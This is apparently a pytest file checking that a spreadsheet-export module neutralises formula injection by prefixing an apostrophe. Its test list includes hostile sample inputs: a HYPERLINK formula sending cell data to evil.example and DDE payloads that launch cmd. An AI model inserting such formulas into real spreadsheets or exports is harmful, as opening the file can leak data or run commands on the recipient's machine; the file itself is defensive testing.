"""Text cells that a spreadsheet program would read as a formula are neutralised in every export."""

import pytest
from openpyxl import Workbook

from kuulluksi.spreadsheets import neutralise, neutralised, xlsx_row

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_start_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Jonot ovat pitkiä.", "a=b", " =1", "", 7, -3, None, "'=1"])
def test_other_values_stay_as_they_are(value):
    assert neutralise(value) == value


def test_a_row_is_neutralised_cell_by_cell():
    assert neutralised(["=1", 5, "ok", "@x"]) == ["'=1", 5, "ok", "'@x"]


def test_xlsx_text_cells_are_strings_never_formulas():
    sheet = Workbook(write_only=True).create_sheet()
    cells = xlsx_row(sheet, ["=1+1", 5, "teksti"])
    assert [(cell.value, cell.data_type) for cell in cells] == [("=1+1", "s"), (5, "n"), ("teksti", "s")]
